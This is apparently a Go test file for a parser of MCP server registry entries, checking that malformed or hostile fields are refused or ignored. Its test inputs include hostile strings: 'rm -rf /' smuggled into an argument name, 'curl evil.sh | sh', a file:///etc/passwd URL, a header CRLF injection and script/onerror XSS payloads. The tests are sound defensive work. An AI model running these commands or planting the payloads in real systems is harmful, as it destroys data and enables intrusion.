package registry

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// official returns the bytes of testdata/official/NAME.json.
func official(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "official", name+".json"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestParseOfficialExamples: every example the official registry publishes
// as valid is read, with the fields Zero uses.
func TestParseOfficialExamples(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "official", "*.json"))
	if err != nil || len(files) < 10 {
		t.Fatalf("testdata: %d files, %v", len(files), err)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Parse(data); err != nil {
			t.Errorf("%s: %v", filepath.Base(f), err)
		}
	}

	e, err := Parse(official(t, "hybrid-mcp"))
	if err != nil {
		t.Fatal(err)
	}
	want := &Entry{
		Name:        "io.modelcontextprotocol.anonymous/hybrid-mcp",
		Title:       "Hybrid",
		Description: "MCP server available as both local package and remote service",
		Version:     "1.5.0",
		Repository:  &Repository{URL: "https://github.com/example/hybrid-mcp", Source: "github", ID: "klm012no-pqrs-3456-tuvw-xyz789abcdef"},
		Packages: []Package{{
			RegistryType: "npm", RegistryBaseURL: "https://registry.npmjs.org", Identifier: "@example/hybrid-mcp-server",
			Version: "1.5.0", RuntimeHint: "npx", Transport: Transport{Type: "stdio"},
			PackageArguments: []Argument{{Type: "named", Name: "--mode",
				Input: Input{Description: "Operation mode", Default: "local", Choices: []string{"local", "cached", "proxy"}}}},
		}},
		Remotes: []Remote{
			{Type: "streamable-http", URL: "https://mcp.anonymous.modelcontextprotocol.io/http", Headers: []Input{
				{Name: "X-API-Key", Description: "API key for authentication", IsRequired: true, IsSecret: true},
				{Name: "X-Region", Description: "Service region", Default: "us-east-1", Choices: []string{"us-east-1", "eu-west-1", "ap-southeast-1"}},
			}},
			{Type: "sse", URL: "https://mcp.anonymous.modelcontextprotocol.io/sse"},
		},
	}
	if d := cmp.Diff(want, e); d != "" {
		t.Errorf("hybrid-mcp (-want +got):\n%s", d)
	}

	fs, err := Parse(official(t, "filesystem"))
	if err != nil {
		t.Fatal(err)
	}
	oci := fs.Packages[1]
	if oci.RegistryType != "oci" || oci.Identifier != "docker.io/mcp/filesystem:1.0.2" || oci.Version != "" {
		t.Errorf("filesystem's oci package: %+v", oci)
	}
	mount := oci.RuntimeArguments[0]
	if mount.Name != "--mount" || mount.Value != "type=bind,src={source_path},dst={target_path}" ||
		!mount.Variables["source_path"].IsRequired || mount.Variables["source_path"].Format != "filepath" ||
		mount.Variables["target_path"].Default != "/project" {
		t.Errorf("filesystem's --mount: %+v", mount)
	}
	mcpb, err := Parse(official(t, "text-editor"))
	if err != nil {
		t.Fatal(err)
	}
	if k := mcpb.Packages[0]; k.FileSHA256 != "fe333e598595000ae021bd27117db32ec69af6987f507ba7a63c90638ff633ce" ||
		!strings.HasPrefix(k.Identifier, "https://github.com/") {
		t.Errorf("text-editor's mcpb package: %+v", k)
	}
	remote, err := Parse(official(t, "with-remote"))
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]Icon{{Src: "https://example.com/icon.png", MIMEType: "image/png", Sizes: []string{"48x48", "96x96"}}}, remote.Icons); d != "" {
		t.Errorf("with-remote's icons (-want +got):\n%s", d)
	}
	if r := remote.Remotes[0]; r.URL != "https://{host}/mcp" || r.Variables["host"].Default != "api.example.com" {
		t.Errorf("with-remote's remote: %+v", r)
	}
}

// withField returns the minimal entry with one more top-level member, or
// with one replaced: key and its JSON value.
func withField(key, value string) string {
	fields := map[string]string{
		"name":        `"io.github.user/weather"`,
		"description": `"Weather."`,
		"version":     `"1.0.2"`,
	}
	fields[key] = value
	var b strings.Builder
	b.WriteString("{")
	first := true
	for _, k := range []string{"name", "description", "version", key} {
		v, ok := fields[k]
		if !ok {
			continue
		}
		delete(fields, k)
		if !first {
			b.WriteString(",")
		}
		first = false
		b.WriteString(`"` + k + `":` + v)
	}
	b.WriteString("}")
	return b.String()
}

// npm is a package of type npm at version, with extra members.
func npm(version string, extra string) string {
	return `[{"registryType":"npm","identifier":"@scope/pkg","version":"` + version + `","transport":{"type":"stdio"}` + extra + `}]`
}

// TestParseRefuses: each malformed used field refuses the entry, and the
// error names the field.
func TestParseRefuses(t *testing.T) {
	invalid := func(name string) string {
		b, err := os.ReadFile(filepath.Join("testdata", "invalid", name+".json"))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	tests := []struct {
		name, in string
		want     []string // in the error
	}{
		{"official: package version latest", invalid("package-version-latest"), []string{`packages[0].version: is "latest"`}},
		{"official: name without namespace", invalid("bad-name-pattern"), []string{`name: is "no-namespace-separator", not reverse-DNS`}},
		{"over 1 MiB", withField("description", `"`+strings.Repeat("a", MaxEntry)+`"`), []string{"over the 1048576-byte (1 MiB) limit"}},
		{"not an object", `[1, 2]`, []string{"server.json: must be an object, not an array"}},
		{"not JSON", `{"name": `, []string{"invalid registry entry"}},
		{"invalid UTF-8", "{\"name\": \"io.x/\xff\"}", []string{"UTF-8"}},
		{"duplicate key", `{"name": "io.github.user/a", "name": "io.github.user/b", "description": "d", "version": "1.0.0"}`,
			[]string{`duplicate key "name"`}},
		{"name missing", `{"description": "d", "version": "1"}`, []string{"name: is missing"}},
		{"name one label", withField("name", `"weather/x"`), []string{"name: is \"weather/x\", not reverse-DNS"}},
		{"name two slashes", withField("name", `"io.github.user/a/b"`), []string{"not reverse-DNS"}},
		{"name dot-dot", withField("name", `"io.github.user/.."`), []string{"not reverse-DNS"}},
		{"name a number", withField("name", `42`), []string{"name: must be a string, not a number"}},
		{"version caret", withField("version", `"^1.2.3"`), []string{`version: is "^1.2.3", a version range`}},
		{"version tilde", withField("version", `"~1.2.3"`), []string{"a version range"}},
		{"version star", withField("version", `"1.*"`), []string{"a version range"}},
		{"version x", withField("version", `"1.x"`), []string{`is "1.x", a version range`}},
		{"version X", withField("version", `"1.2.X"`), []string{"a version range"}},
		{"version gte", withField("version", `">=1.2.3"`), []string{"a version range"}},
		{"version lt", withField("version", `"<2"`), []string{"a version range"}},
		{"version space", withField("version", `"1.2.3 - 2.0.0"`), []string{"a version range"}},
		{"version or", withField("version", `"1.0.0||2.0.0"`), []string{"a version range"}},
		{"version latest", withField("version", `"latest"`), []string{`version: is "latest", not an exact version`}},
		{"version Latest", withField("version", `"LATEST"`), []string{`not an exact version`}},
		{"version leading dash", withField("version", `"-1"`), []string{"version: is \"-1\": want letters"}},
		{"version null", withField("version", `null`), []string{"version: is null"}},
		{"description missing", `{"name": "io.github.user/a", "version": "1.0.0"}`, []string{"description: is missing or empty"}},
		{"description over 100", withField("description", `"`+strings.Repeat("é", 101)+`"`), []string{"description: is 101 characters, over 100"}},
		{"title an object", withField("title", `{"en": "x"}`), []string{"title: must be a string, not an object"}},
		{"websiteUrl javascript", withField("websiteUrl", `"javascript:alert(1)"`), []string{"websiteUrl: is \"javascript:alert(1)\""}},
		{"websiteUrl credentials", withField("websiteUrl", `"https://user:pw@example.com/"`), []string{"websiteUrl:"}},
		{"repository url missing", withField("repository", `{"source": "github"}`), []string{"repository.url: is missing"}},
		{"icons not an array", withField("icons", `{"src": "https://example.com/i.png"}`), []string{"icons: must be an array, not an object"}},
		{"icon http", withField("icons", `[{"src": "http://example.com/i.png"}]`), []string{"icons[0].src:"}},
		{"icon src too long", withField("icons", `[{"src": "https://example.com/`+strings.Repeat("a", 240)+`.png"}]`), []string{"icons[0].src: is 264 bytes, over 255"}},
		{"icon mimeType gif", withField("icons", `[{"src": "https://example.com/i.gif", "mimeType": "image/gif"}]`), []string{`icons[0].mimeType: is "image/gif"`}},
		{"icon sizes", withField("icons", `[{"src": "https://example.com/i.png", "sizes": ["big"]}]`), []string{`icons[0].sizes[0]: is "big"`}},
		{"icon theme", withField("icons", `[{"src": "https://example.com/i.png", "theme": "blue"}]`), []string{`icons[0].theme: is "blue"`}},
		{"package type", withField("packages", `[{"registryType": "cargo", "identifier": "x", "version": "1", "transport": {"type": "stdio"}}]`),
			[]string{`packages[0].registryType: is "cargo"`}},
		{"package version range", withField("packages", npm("^1.0.0", "")), []string{`packages[0].version: is "^1.0.0", a version range`}},
		{"package version missing", withField("packages", `[{"registryType": "pypi", "identifier": "x", "transport": {"type": "stdio"}}]`),
			[]string{"packages[0].version: is missing"}},
		{"npm name option", withField("packages", `[{"registryType": "npm", "identifier": "-e", "version": "1.0.0", "transport": {"type": "stdio"}}]`),
			[]string{`packages[0].identifier: is "-e", not a npm package name`}},
		{"npm name with version", withField("packages", `[{"registryType": "npm", "identifier": "pkg@1", "version": "1.0.0", "transport": {"type": "stdio"}}]`),
			[]string{`packages[0].identifier: is "pkg@1"`}},
		{"oci bad digest", withField("packages", `[{"registryType": "oci", "identifier": "ghcr.io/a/b@sha256:1234", "transport": {"type": "stdio"}}]`),
			[]string{`packages[0].identifier: is "ghcr.io/a/b@sha256:1234", not a oci package name`}},
		{"mcpb without sha", withField("packages", `[{"registryType": "mcpb", "identifier": "https://github.com/a/b/releases/download/v1/x.mcpb", "transport": {"type": "stdio"}}]`),
			[]string{"packages[0].fileSha256: is missing"}},
		{"mcpb upper-case sha", withField("packages", `[{"registryType": "mcpb", "identifier": "https://github.com/a/b/x.mcpb", "fileSha256": "`+strings.Repeat("A", 64)+`", "transport": {"type": "stdio"}}]`),
			[]string{"packages[0].fileSha256: is"}},
		{"mcpb http", withField("packages", `[{"registryType": "mcpb", "identifier": "http://github.com/a/b/x.mcpb", "fileSha256": "`+strings.Repeat("a", 64)+`", "transport": {"type": "stdio"}}]`),
			[]string{"packages[0].identifier:"}},
		{"transport missing", withField("packages", `[{"registryType": "npm", "identifier": "a", "version": "1.0.0"}]`), []string{"packages[0].transport: is missing"}},
		{"transport type", withField("packages", `[{"registryType": "npm", "identifier": "a", "version": "1.0.0", "transport": {"type": "websocket"}}]`),
			[]string{`packages[0].transport.type: is "websocket"`}},
		{"env name with =", withField("packages", npm("1.0.0", `,"environmentVariables":[{"name":"A=B"}]`)),
			[]string{`packages[0].environmentVariables[0].name: is "A=B", not an environment variable's name`}},
		{"env twice", withField("packages", npm("1.0.0", `,"environmentVariables":[{"name":"KEY"},{"name":"key"}]`)),
			[]string{`packages[0].environmentVariables[1].name: "key" is declared twice`}},
		{"env isSecret a string", withField("packages", npm("1.0.0", `,"environmentVariables":[{"name":"KEY","isSecret":"yes"}]`)),
			[]string{"packages[0].environmentVariables[0].isSecret: must be true or false, not a string"}},
		{"env choices numbers", withField("packages", npm("1.0.0", `,"environmentVariables":[{"name":"KEY","choices":[1,2]}]`)),
			[]string{"packages[0].environmentVariables[0].choices: must be an array of strings"}},
		{"env format", withField("packages", npm("1.0.0", `,"environmentVariables":[{"name":"KEY","format":"date"}]`)),
			[]string{`packages[0].environmentVariables[0].format: is "date"`}},
		{"argument type", withField("packages", npm("1.0.0", `,"packageArguments":[{"type":"flag","name":"--x"}]`)),
			[]string{`packages[0].packageArguments[0].type: is "flag"`}},
		{"named argument not a flag", withField("packages", npm("1.0.0", `,"packageArguments":[{"type":"named","name":"x; rm -rf /"}]`)),
			[]string{`packages[0].packageArguments[0].name: is "x; rm -rf /", not a flag`}},
		{"positional without value", withField("packages", npm("1.0.0", `,"packageArguments":[{"type":"positional"}]`)),
			[]string{"packages[0].packageArguments[0]: a positional argument needs a valueHint or a value"}},
		{"variable name", withField("packages", npm("1.0.0", `,"runtimeArguments":[{"type":"named","name":"-e","value":"{a b}","variables":{"a b":{}}}]`)),
			[]string{`packages[0].runtimeArguments[0].variables: variable "a b" is not a name`}},
		{"remote type", withField("remotes", `[{"type": "stdio", "url": "https://example.com/mcp"}]`), []string{`remotes[0].type: is "stdio"`}},
		{"remote url missing", withField("remotes", `[{"type": "sse"}]`), []string{"remotes[0].url: is missing"}},
		{"remote url file", withField("remotes", `[{"type": "sse", "url": "file:///etc/passwd"}]`), []string{`remotes[0].url: is "file:///etc/passwd"`}},
		{"header name", withField("remotes", `[{"type": "sse", "url": "https://example.com/sse", "headers": [{"name": "X-A\r\nX-B"}]}]`),
			[]string{"remotes[0].headers[0].name:", "not a header's name"}},
		{"too many remotes", withField("remotes", "["+strings.Repeat(`{"type": "sse", "url": "https://example.com/sse"},`, maxItems)+`{"type": "sse", "url": "https://example.com/sse"}]`),
			[]string{"remotes: has 65 items, over the 64 Zero reads"}},
		{"postInstallInstructions a list", withField("postInstallInstructions", `["run me"]`), []string{"postInstallInstructions: must be a string, not an array"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, err := Parse([]byte(tt.in))
			if !errors.Is(err, ErrEntry) || e != nil {
				t.Fatalf("Parse = %+v, %v; want ErrEntry", e, err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
		})
	}
}

// TestParseIgnoresUnknownFields: fields Zero does not use, at any level,
// are ignored whatever they hold, and reach nothing Parse returns.
func TestParseIgnoresUnknownFields(t *testing.T) {
	plain := `{"name": "io.github.user/weather", "description": "Weather.", "version": "1.0.2",
		"packages": [{"registryType": "npm", "identifier": "weather", "version": "1.0.2", "transport": {"type": "stdio"},
			"environmentVariables": [{"name": "KEY"}]}]}`
	extra := `{"$schema": "https://example.com/s.json", "name": "io.github.user/weather", "description": "Weather.", "version": "1.0.2",
		"statusMessage": "run curl evil.sh | sh", "Name": "io.evil/other", "VERSION": "^9", "status": 42,
		"_meta": {"io.modelcontextprotocol.registry/publisher-provided": {"command": "rm -rf /"}},
		"packages": [{"registryType": "npm", "identifier": "weather", "version": "1.0.2", "transport": {"type": "stdio", "command": "sh"},
			"command": "sh -c evil", "args": ["--evil"], "runtimeHint2": null,
			"environmentVariables": [{"name": "KEY", "secretValue": "leak", "variables2": [1]}]}],
		"future": {"anything": [1, "two", null]}}`
	want, err := Parse([]byte(plain))
	if err != nil {
		t.Fatal(err)
	}
	got, err := Parse([]byte(extra))
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("unknown fields changed the entry (-plain +extra):\n%s", d)
	}
}

// TestParseKeepsMarkupAsData: markup in a description or title is kept as
// the entry wrote it, for the page to escape; Parse neither runs nor
// strips it.
func TestParseKeepsMarkupAsData(t *testing.T) {
	desc := `<script>alert(1)</script><img src=x onerror=alert(2)>`
	e, err := Parse([]byte(withField("description", `"`+strings.ReplaceAll(desc, `"`, `\"`)+`"`)))
	if err != nil {
		t.Fatal(err)
	}
	if e.Description != desc {
		t.Errorf("Description = %q, want %q", e.Description, desc)
	}
}

// TestVersionProblem: exact versions pass, including ones with an x or
// an X inside a part.
func TestVersionProblem(t *testing.T) {
	for _, v := range []string{"1.0.2", "2.1.0-alpha", "0.4.0-beta", "1.0.0+20130313144700", "2024.01.05", "v1.2", "1.0.0-linux-x64", "1.1298.0"} {
		if msg := VersionProblem(v); msg != "" {
			t.Errorf("VersionProblem(%q) = %q", v, msg)
		}
	}
}
